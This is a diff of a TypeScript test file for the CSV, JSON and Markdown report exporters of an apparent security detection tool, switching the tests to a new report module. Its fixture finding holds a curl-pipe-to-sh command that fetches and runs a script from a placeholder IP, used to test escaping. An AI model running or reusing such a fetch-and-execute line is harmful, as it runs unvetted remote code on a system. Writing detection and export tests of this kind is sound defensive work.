@@ -3,13 +3,17 @@ import fc from 'fast-check'
 import type { Finding, RunResult } from '../../../engine/worker/api.ts'
 import { jsonText } from '../../../ui/format/cell.ts'
 import { csvField, csvTable } from '../../../ui/format/csv.ts'
-import { exportFileName, findingsCsv, findingsJson, findingsMarkdown } from '../../../ui/format/export.ts'
-import type { FindingsReport } from '../../../ui/format/export.ts'
+import { buildReport } from '../../../ui/report/build.ts'
+import { csvReport } from '../../../ui/report/csv.ts'
+import { reportFileName } from '../../../ui/report/formats.ts'
+import { jsonReport } from '../../../ui/report/json.ts'
+import { markdownReport } from '../../../ui/report/markdown.ts'
+import type { ReportModel } from '../../../ui/report/model.ts'
 import { markdownBlock, markdownText } from '../../../ui/format/markdown.ts'
 
 const COMMAND = 'sh -c "curl http://203.0.113.7/x|sh"'
 
-function report(change: Partial<Finding> = {}): FindingsReport {
+function report(change: Partial<Finding> = {}): ReportModel {
   const finding: Finding = {
     id: 'f1',
     row: [COMMAND, 2n ** 62n],
@@ -44,11 +48,11 @@ function report(change: Partial<Finding> = {}): FindingsReport {
     elapsedMillis: 5,
     cancelled: false
   }
-  return {
+  return buildReport({
     rule: { id: null, name: 'Shell | test', retired: null },
     result,
     rarity: new Map([['f1', { findingId: 'f1', n: 1, total: 1024, bits: 10, basis: 'x' }]])
-  }
+  })
 }
 
 describe('csv', () => {
@@ -119,7 +123,7 @@ describe('markdown', () => {
 
 describe('findings', () => {
   test('csv: the query columns, then ours', () => {
-    expect(findingsCsv(report())).toBe(
+    expect(csvReport(report())).toBe(
       'process.command_line,"\'=cmd",rarebit.events,rarebit.first_seen,rarebit.last_seen,rarebit.rarity_bits,rarebit.rarity_n,' +
         'rarebit.rarity_total,rarebit.thresholds,rarebit.dropped_by_kibana,rarebit.sources\r\n' +
         '"sh -c ""curl http://203.0.113.7/x|sh""",4611686018427387904,3,2026-03-02T10:00:00.000Z,2026-03-02T10:00:05.000Z,10,1,1024,' +
@@ -128,13 +132,13 @@ describe('findings', () => {
   })
 
   test('json keeps every digit and parses', () => {
-    const text = findingsJson(report())
+    const text = jsonReport(report())
     expect(text).toContain('"value": 4611686018427387904')
     expect(JSON.parse(text).findings[0]).toMatchObject({ id: 'f1', eventCount: 3, rarity: { bits: 10 }, sourcesTruncated: true })
   })
 
   test('markdown: command in a block, values in a table', () => {
-    const text = findingsMarkdown(report())
+    const text = markdownReport(report())
     expect(text).toContain('# Shell &#124; test\n')
     expect(text).toContain('```text\nsh -c "curl http://203.0.113.7/x|sh"\n```')
     expect(text).toContain('| sources | a.ndjson&#58;12; 2 more |\n')
@@ -142,7 +146,7 @@ describe('findings', () => {
   })
 
   test('file names are plain', () => {
-    expect(exportFileName('Shell | ../x', new Date(0), 'markdown')).toBe('rarebit-shell-x-1970-01-01-00-00.md')
+    expect(reportFileName('Shell | ../x', new Date(0), 'md')).toBe('rarebit-shell-x-1970-01-01-00-00.md')
   })
 })
 
